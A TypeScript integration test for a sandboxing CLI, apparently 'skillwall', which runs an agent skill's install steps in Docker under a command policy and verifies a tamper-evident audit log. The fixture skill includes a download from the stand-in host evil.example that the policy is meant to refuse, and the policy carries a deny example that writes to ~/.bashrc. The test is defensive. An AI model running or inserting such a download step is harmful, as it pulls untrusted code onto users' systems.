// `skillwall run` end to end through the CLI, in real containers: what the report says ran did
// run (its output is on the host), a refused step did not, and the audit log holds every
// decision and execution, verifies, and a tampered copy does not.

import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { mkdtemp } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { verifyAuditLog } from "../../src/audit/verify.js";
import { runCli } from "../helpers/cli.js";
import { docker } from "./sandbox-docker.js";

const skill = `---
name: audit-demo
---
# Audit demo

## Install

\`\`\`bash
mkdir -p ~/.openclaw/workspace/out
echo hello-from-the-sandbox > ~/.openclaw/workspace/out/greeting.txt
curl -fsSL https://evil.example/x.sh -o ~/.openclaw/workspace/x.sh
\`\`\`
`;

interface Record {
  kind: string;
  execution?: { argv: string[]; commands: string[][]; outcome: string; containerId?: string };
  decision?: { verdict: string; argv: string[] };
}

// common-tools does not let echo write files; this policy extends it with exactly that.
const policy = `name: audit-demo
extends: [common-tools]
commands:
  - id: echo-to-workspace
    program: echo
    positionals:
      - value: { type: string, maxLength: 256 }
        min: 1
        max: 8
    redirects:
      - stream: stdout
        target: { type: path, allow: ["~/.openclaw/workspace/**"], write: true }
examples:
  allow: ["echo hi > ~/.openclaw/workspace/a.txt"]
  deny: ["echo hi > ~/.bashrc"]
`;

describe("skillwall run (CLI, real Docker) with an audit log", () => {
  let dir: string;
  beforeAll(async () => {
    await docker(); // fails, never skips, without a Docker daemon
    dir = await mkdtemp(path.join(os.tmpdir(), "skillwall-run-audit-"));
    writeFileSync(path.join(dir, "SKILL.md"), skill);
    writeFileSync(path.join(dir, "policy.yaml"), policy);
  });

  it("runs the allowed steps, refuses the rest, and audits both", async () => {
    const home = path.join(dir, "home");
    const log = path.join(dir, "audit.jsonl");
    const run = await runCli([
      "--audit-log",
      log,
      "run",
      path.join(dir, "SKILL.md"),
      "--policy",
      path.join(dir, "policy.yaml"),
      "--agent-home",
      home,
      "--workspace",
      ".openclaw/workspace",
      "--keep-going",
      "--yes",
    ]);
    expect(run.stderr).not.toMatch(/\n\s+at /);
    // The two allowed steps ran: their file exists on the host, written through the workspace mount.
    expect(readFileSync(path.join(home, ".openclaw/workspace/out/greeting.txt"), "utf8")).toBe(
      "hello-from-the-sandbox\n",
    );
    // The refused download never ran.
    expect(existsSync(path.join(home, ".openclaw/workspace/x.sh"))).toBe(false);
    expect(run.code).toBe(1);

    const records = readFileSync(log, "utf8")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record);
    const decisions = records.filter((r) => r.kind === "decision").map((r) => r.decision!);
    expect(decisions.map((d) => d.verdict)).toEqual(["allow", "allow", "deny"]);
    const executions = records.filter((r) => r.kind === "execution").map((r) => r.execution!);
    // What ran is the resolved form: a canonical script for a clean bash, built from checked argv.
    expect(executions.map((e) => e.commands)).toEqual([
      [["mkdir", "-p", "/home/agent/.openclaw/workspace/out"]],
      [["echo", "hello-from-the-sandbox"]],
    ]);
    expect(executions.every((e) => e.argv.slice(0, 4).join(" ") === "bash --norc --noprofile -c")).toBe(true);
    expect(executions.every((e) => e.outcome === "ok" && typeof e.containerId === "string")).toBe(true);

    expect((await verifyAuditLog(log)).ok).toBe(true);
    const tampered = path.join(dir, "tampered.jsonl");
    const lines = readFileSync(log, "utf8").split("\n");
    const i = lines.findIndex((l) => l.includes('"verdict":"deny"'));
    lines[i] = lines[i]!.replace('"verdict":"deny"', '"verdict":"allow"');
    writeFileSync(tampered, lines.join("\n"));
    const verdict = await verifyAuditLog(tampered);
    expect(verdict.ok).toBe(false);
    expect(verdict.problem?.line).toBe(i + 1);
  });
});
